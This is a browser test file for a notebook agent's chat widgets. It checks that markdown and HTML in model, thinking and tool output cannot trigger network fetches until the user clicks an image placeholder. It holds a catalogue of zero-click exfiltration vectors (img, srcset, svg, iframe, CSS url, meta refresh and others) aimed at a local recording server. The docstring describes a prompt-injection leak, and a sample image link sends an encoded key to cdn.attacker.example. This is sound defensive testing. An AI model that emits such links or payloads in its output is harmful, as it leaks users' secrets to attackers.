"""Rendered model and tool text never makes the browser fetch anything.

A prompt-injected answer (from a page a tool fetched, a file the agent read) can write
``![](http://attacker/?d=<secret>)``: if that image loaded as it rendered, the secret
would be gone. Here every auto-fetching construct points at a small HTTP server on
127.0.0.1 that records each request it gets; the text goes through the real widgets (the
chat view's answer, thinking block and tool card, and the standalone cards), and the
server must hear nothing until the user clicks an image placeholder — and then exactly
that image.
"""

from __future__ import annotations

import base64
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from .harness import LabSession

pytestmark = pytest.mark.browser

# A 1×1 PNG: what the recording server answers, and the inline `data:` image.
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
PIXEL_URI = "data:image/png;base64," + base64.b64encode(PIXEL).decode()

REPO = Path(__file__).resolve().parents[2]


class RecordingServer:
    """An HTTP server on 127.0.0.1 that records every request ("METHOD /path")."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        lock = threading.Lock()
        requests = self.requests

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                with lock:
                    requests.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PIXEL)))
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(PIXEL)

            do_GET = do_POST = do_HEAD = do_OPTIONS = _record

            def log_message(self, format: str, *args: Any) -> None:
                pass  # the record above is the log; stderr stays for real failures

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def leak_server() -> Iterator[RecordingServer]:
    server = RecordingServer()
    try:
        yield server
    finally:
        server.stop()


def payload(base: str, where: str) -> str:
    """Markdown and raw HTML with every construct that loads a URL without a click; each
    URL is unique (``/leak/<where>/<vector>``). Ends with a sentinel that says it all
    rendered."""
    def u(vector: str) -> str:
        return f"{base}/leak/{where}/{vector}"

    svg_data = ("data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage "
                f"href='{u('svg-data-uri')}'/%3E%3C/svg%3E")
    return "\n\n".join([
        f"Start of {where}.",
        f"A chart: ![chart from {where}]({u('md-image')} \"Quarterly chart\")",
        f"By reference: ![ref image][pic-{where}]",
        f"[pic-{where}]: {u('md-image-ref')}",
        f"Linked image: [![linked]({u('md-image-in-link')})]({u('md-image-link-target')})",
        f"A link stays clickable: [the report]({u('link')})",
        f'<img src="{u("img-src")}" alt="raw img">',
        f'<image src="{u("image-tag")}">',
        f'<img src="//{base.split("//")[1]}/leak/{where}/protocol-relative">',
        f'<img srcset="{u("img-srcset")} 1x" alt="srcset only">',
        f'<img src="{PIXEL_URI}" srcset="{u("img-srcset-beside-data")} 2x" alt="inline pixel">',
        f'<img src="{svg_data}" alt="svg data uri">',
        f'<picture><source srcset="{u("picture-source")}"><img alt="picture"></picture>',
        f'<video poster="{u("video-poster")}" src="{u("video-src")}"></video>',
        f'<video><source src="{u("video-source")}"><track src="{u("video-track")}"></video>',
        f'<audio src="{u("audio-src")}" autoplay></audio>',
        f'<link rel="stylesheet" href="{u("link-stylesheet")}">',
        f'<link rel="preload" as="image" href="{u("link-preload")}">',
        f'<link rel="prefetch" href="{u("link-prefetch")}">',
        f'<link rel="icon" href="{u("link-icon")}">',
        f'<iframe src="{u("iframe-src")}"></iframe>',
        f"<iframe srcdoc=\"<img src='{u('iframe-srcdoc')}'>\"></iframe>",
        f'<object data="{u("object-data")}"></object>',
        f'<embed src="{u("embed-src")}">',
        f'<input type="image" src="{u("input-image")}">',
        f'<svg><image href="{u("svg-image-href")}"/>'
        f'<image xlink:href="{u("svg-image-xlink")}"/><use href="{u("svg-use")}#a"/>'
        f'<filter id="f-{where}"><feImage href="{u("svg-feimage")}"/></filter>'
        f'<rect width="9" height="9" fill="url({u("svg-fill")}#p)"/></svg>',
        f'<math><mglyph src="{u("math-mglyph")}"></mglyph></math>',
        f'<meta http-equiv="refresh" content="0;url={u("meta-refresh")}">',
        f'<base href="{u("base")}/"><img src="relative-after-base" alt="after base">',
        f'<table background="{u("table-background")}"><tr>'
        f'<td background="{u("td-background")}">cell</td></tr></table>',
        f'<div style="background:url({u("style-url")})">styled</div>',
        f"<style>@import url({u('style-import')}); p {{ background: url({u('style-rule')}) }}"
        "</style>",
        f'<noscript><img src="{u("noscript-img")}"></noscript>',
        f'<a href="{u("ping-link")}" ping="{u("a-ping")}">ping link</a>',
        f'<form action="{u("form-action")}"><button formaction="{u("formaction")}">go</button>'
        "</form>",
        f"End of {where} (sentinel).",
    ])


WHERE = ["answer", "thinking", "chat-tool", "tool-card", "skill-card", "thinking-block"]


def cells(base: str) -> list[str]:
    return [
        f"import sys\nsys.path.insert(0, {str(REPO)!r})\n"
        f"from tests.browser.test_no_fetch import payload\nBASE = {base!r}\n"
        "from neta_nb import Agent, AgentSession, AgentToolConfig, ScriptedProvider, "
        "ToolCatalog, tool\n"
        "from neta_nb.widgets import ChatView, SkillCard, ThinkingBlock, ToolCard",
        # The chat view: thinking, a tool whose result is hostile (the fetched page), and
        # an answer that repeats the injection.
        "@tool(label='Fetch page')\n"
        "def fetch_page(url: str) -> str:\n"
        "    '''Fetch a web page.'''\n"
        "    return payload(BASE, 'chat-tool')\n"
        "catalog = ToolCatalog.default()\n"
        "catalog.register(fetch_page)\n"
        "provider = ScriptedProvider([\n"
        "    [{'thinking': payload(BASE, 'thinking')}, {'text': 'Reading the page.'},\n"
        "     {'tool_call': {'name': 'fetch_page', 'args': {'url': 'https://example.com'}}}],\n"
        "    [{'text': payload(BASE, 'answer')}],\n"
        "])\n"
        "agent = Agent('reader', model=provider, tools=AgentToolConfig(enabled=['fetch_page']))\n"
        "session = AgentSession(agent, catalog)\n"
        "session.set_thinking_level('medium')\n"
        "chat = ChatView(session)\n"
        "chat",
        "await session.run('Summarise https://example.com')",
        "ToolCard(name='read_file', status='done', args={'path': 'notes.md'},"
        " result=payload(BASE, 'tool-card'), expanded=True)",
        "SkillCard(name='report', status='done', result=payload(BASE, 'skill-card'),"
        " expanded=True, lang='zh-CN')",
        "ThinkingBlock(payload(BASE, 'thinking-block'), collapsed=False)",
    ]


class NetworkWatch:
    """The page's requests in flight, to wait until it has gone network-idle."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.inflight: set[Any] = set()
        self.last_change = time.monotonic()
        self.urls: list[str] = []
        self._handlers = {"request": self._started, "requestfinished": self._ended,
                          "requestfailed": self._ended}
        for event, handler in self._handlers.items():
            page.on(event, handler)

    def _started(self, request: Any) -> None:
        self.inflight.add(request)
        self.urls.append(request.url)
        self.last_change = time.monotonic()

    def _ended(self, request: Any) -> None:
        self.inflight.discard(request)
        self.last_change = time.monotonic()

    def wait_idle(self, quiet: float = 1.0, timeout: float = 30.0) -> None:
        """Until no request has been in flight for ``quiet`` seconds. Playwright delivers
        events while the page is waited on, so the loop waits on the page."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if not self.inflight and time.monotonic() - self.last_change >= quiet:
                return
            self.page.wait_for_timeout(100)
        raise AssertionError(f"the page never went network-idle: {self.inflight}")

    def close(self) -> None:
        for event, handler in self._handlers.items():
            self.page.remove_listener(event, handler)


def test_rendered_text_fetches_nothing_until_a_placeholder_is_clicked(
        lab: LabSession, leak_server: RecordingServer) -> None:
    base = f"http://{leak_server.host}"
    page = lab.page
    watch = NetworkWatch(page)
    try:
        lab.run_notebook("no_fetch.ipynb", cells(base))
        # The chat's thinking and its tool card are folded: their content is rendered when
        # they are opened, as a user does to read them.
        chat = page.locator(".neta-chat-view")
        chat.locator(".neta-tool-card", has_text="Fetch page").wait_for()
        chat.locator(".neta-thinking-block .neta-thinking-header").first.click()
        chat.locator(".neta-tool-card .neta-tool-header").first.click()
        # Every rendering has reached its sentinel. Results longer than widget state holds
        # are previews: "Show all" fetches the whole from the kernel, and the whole must
        # fetch nothing either.
        page.wait_for_function("""(wheres) => {
          document.querySelectorAll('.neta-cut-note:not([hidden]) .neta-cut-note-button')
            .forEach((button) => { if (!button.disabled) button.click(); });
          const text = Array.from(document.querySelectorAll('.neta-root'))
            .map((root) => root.textContent).join(' ');
          return wheres.every((where) => text.includes('End of ' + where + ' (sentinel)'));
        }""", arg=WHERE, timeout=60_000)
        watch.wait_idle()
        assert leak_server.requests == [], "rendering fetched: " + ", ".join(
            leak_server.requests)
        assert [url for url in watch.urls if leak_server.host in url] == []

        # What the sanitizer let through, in every rendered markdown container.
        found = page.evaluate("""(host) => {
          const boxes = Array.from(document.querySelectorAll('.neta-root .neta-markdown'));
          const all = (sel) => boxes.flatMap((r) => Array.from(r.querySelectorAll(sel)));
          const named = (el, a) => (el.tagName === 'A' && a.name === 'href')
            || (el.classList.contains('neta-remote-image') && a.name === 'title');
          const leaking = all('*').filter((el) => Array.from(el.attributes).some(
            (a) => a.value.includes(host) && !named(el, a)));
          return {
            placeholders: all('.neta-remote-image').map((b) => ({
              host: b.querySelector('.neta-remote-image-host').textContent,
              text: b.textContent, title: b.title})),
            leaking: leaking.map((el) => el.outerHTML.slice(0, 120)),
            loaders: all('iframe, object, embed, video, audio, source, track, picture, link,'
                         + ' meta, base, style, svg, math, input, form, noscript').length,
            images: all('img').map((img) => img.getAttribute('src').slice(0, 22)),
            pixelsLoaded: all('img').filter((img) => img.naturalWidth === 1).length,
            links: all('a').filter((a) => a.href.includes('/link'))
              .map((a) => [a.target, a.rel]),
          };
        }""", leak_server.host)
        # Only links and placeholder titles still name the server; no loading element.
        assert found["leaking"] == []
        assert found["loaders"] == 0
        # The inline data image renders (it is no request); nothing else is an <img>.
        assert set(found["images"]) == {"data:image/png;base64,"}
        assert found["pixelsLoaded"] == len(WHERE)
        assert found["links"] and all(target == "_blank" and "noopener" in rel
                                      for target, rel in found["links"])
        # Remote images are placeholders that name the host (and carry the alt text); the
        # relative one (after the dropped <base>) would load from the notebook server.
        placeholders = found["placeholders"]
        assert {p["host"] for p in placeholders} == {leak_server.host,
                                                     f"127.0.0.1:{lab.server.port}"}
        titles = {p["title"] for p in placeholders}
        for where in WHERE:
            for vector in ("md-image", "md-image-ref", "md-image-in-link", "img-src",
                           "image-tag", "protocol-relative"):
                assert f"{base}/leak/{where}/{vector}" in titles
        assert any("chart from answer" in p["text"] for p in placeholders)
        # The words follow the card's language (the skill card is in Chinese).
        words = page.evaluate("""() => Array.from(document.querySelectorAll(
            '.neta-skill-card .neta-remote-image-host, .neta-tool-card .neta-remote-image-host'))
            .map((host) => getComputedStyle(host, '::before').content)""")
        assert '"图片来自 "' in words and '"image from "' in words

        # A click loads that image, and only that one; the link around it is not followed.
        pages = len(page.context.pages)
        target = f"{base}/leak/answer/md-image"
        page.locator(f".neta-chat-text .neta-remote-image[title='{target}']").click()
        page.wait_for_function("(url) => Array.from(document.querySelectorAll('img'))"
                               ".some((img) => img.src === url && img.naturalWidth === 1)",
                               arg=target, timeout=10_000)
        linked = f"{base}/leak/answer/md-image-in-link"
        page.locator(f".neta-chat-text .neta-remote-image[title='{linked}']").click()
        page.wait_for_function("(url) => Array.from(document.querySelectorAll('img'))"
                               ".some((img) => img.src === url && img.naturalWidth === 1)",
                               arg=linked, timeout=10_000)
        watch.wait_idle()
        assert leak_server.requests == ["GET /leak/answer/md-image",
                                        "GET /leak/answer/md-image-in-link"]
        assert len(page.context.pages) == pages  # the link did not open
    finally:
        watch.close()


PICTURE_CELL = """
from neta_nb.widgets import ToolCard
ToolCard(name="fetch_page", label="Fetch page", status="done", expanded=True,
         args={"url": "https://example.com/q3-report"},
         result="## Q3 report\\n\\nRevenue grew **12 %** over the quarter.\\n\\n"
                "![Revenue by region](https://cdn.attacker.example/px.png?d=c2stbGl2ZS0xMjM0)"
                "\\n\\nSee the [full report](https://example.com/q3-report).")
""".strip()


def test_image_placeholder_pictures(lab: LabSession, screenshot_dir: Path) -> None:
    lab.run_notebook("no_fetch_picture.ipynb", [PICTURE_CELL])
    page = lab.page
    placeholder = page.locator(".neta-remote-image")
    placeholder.wait_for()
    assert placeholder.locator(".neta-remote-image-host").text_content() == "cdn.attacker.example"
    card = page.locator(".neta-tool-card")
    pictures = []
    for dark in (False, True):
        lab.set_theme(dark=dark)
        name = f"remote-image-placeholder-{'dark' if dark else 'light'}.png"
        pictures.append(lab.screenshot(card, screenshot_dir / name))
    assert all(path.stat().st_size > 1000 for path in pictures)
